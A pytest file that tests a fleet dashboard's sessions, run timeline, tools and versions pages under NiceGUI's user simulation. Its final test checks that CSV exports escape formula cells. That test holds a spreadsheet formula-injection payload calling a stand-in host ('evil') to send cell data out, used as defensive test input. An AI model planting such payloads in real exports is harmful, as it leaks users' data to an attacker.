"""Sessions, session (run timeline), tools and versions pages in NiceGUI's user simulation (real SQLite with
the fixtures' sessions and runs as the agent reads them); their CSV exports are formula-safe."""

from __future__ import annotations

import csv
import io

from nicegui import ui
from nicegui.testing.user_simulation import user_simulation

from fleet_server.dashboard import register_pages
from fleet_server.dashboard.pages.sessions import CSV_COLUMNS
from fleet_server.dashboard.parts.table_csv import table_csv
from fleet_server.store.locks import write_transaction
from fleet_server.store.models import db
from fleet_server.store.sessions.ingest import record_versions, store_activity


async def test_sessions_list_links_to_a_run_timeline(fleet_state, log_in):
    async with user_simulation() as user:
        register_pages(fleet_state)
        await log_in(user)
        await user.open("/sessions?range=all&device=oc-legacy&sort=failed")
        await user.should_see("Most expensive sessions")
        await user.should_see("agent:main:legacy-a", retries=20)
        await user.should_see("429 Rate limit reached for stub-model (simulated)")
        await user.open("/session/oc-legacy/research/f5d14729-9948-421b-b9ae-5bc26911ed41")
        await user.should_see("Run timeline · 3 turns", retries=20)
        await user.should_see("3 (1 failed; 4 error messages, 3 retries)")
        timeline = user.find(kind=ui.echart).elements.pop()
        bars = timeline.options["series"][1]["data"]
        assert [b["itemStyle"]["color"] for b in bars] == ["#16a34a", "#16a34a", "#dc2626"]
        await user.open("/session/oc-legacy/research/nope")
        await user.should_see("No session 'nope'")


async def test_tokens_and_device_pages_link_to_sessions(fleet_state, log_in):
    async with user_simulation() as user:
        register_pages(fleet_state)
        await log_in(user)
        await user.open("/tokens?tz=UTC")
        await user.should_see("by session →")
        await user.open("/device/oc-latest")
        await user.should_see("Sessions of this device", retries=20)


async def test_tools_and_versions_pages(fleet_state, log_in):
    with write_transaction(db.obj):
        record_versions([("oc-latest", 1_795_000_000_000, "openclaw", None, "2026.7.35"),
                         ("oc-latest", 1_795_234_000_000, "openclaw", "2026.7.35", "2026.9.6")])
        store_activity([], [], [{"device": "oc-latest", "id": "c" * 32, "agent_id": "main", "session_id": "s",
                                 "run": "", "ts": 1_795_234_000_000, "tool": "exec", "error": True, "duration_s": 1.5,
                                 "source": "plugin"}])
    async with user_simulation() as user:
        register_pages(fleet_state)
        await log_in(user)
        await user.open("/tools?range=all")
        await user.should_see("Fails most: exec (1 of 1 calls)", retries=20)
        await user.open("/versions")
        await user.should_see("OpenClaw now")
        await user.should_see("2026.7.35 → 2026.9.6", retries=20)


def test_csv_cells_a_spreadsheet_would_run_are_text() -> None:
    rows = [{"session_key": '=HYPERLINK("http://evil/?"&A1)', "label": "@SUM(1)", "turns": 3, "cost": -1.5,
             "channel": "+tg", "models": "-x", "latest_error": None}]
    parsed = list(csv.DictReader(io.StringIO(table_csv(CSV_COLUMNS, rows))))
    assert parsed[0]["session_key"] == "'=HYPERLINK(\"http://evil/?\"&A1)"
    assert (parsed[0]["label"], parsed[0]["channel"], parsed[0]["models"]) == ("'@SUM(1)", "'+tg", "'-x")
    assert (parsed[0]["turns"], parsed[0]["cost"], parsed[0]["latest_error"]) == ("3", "-1.5", "")
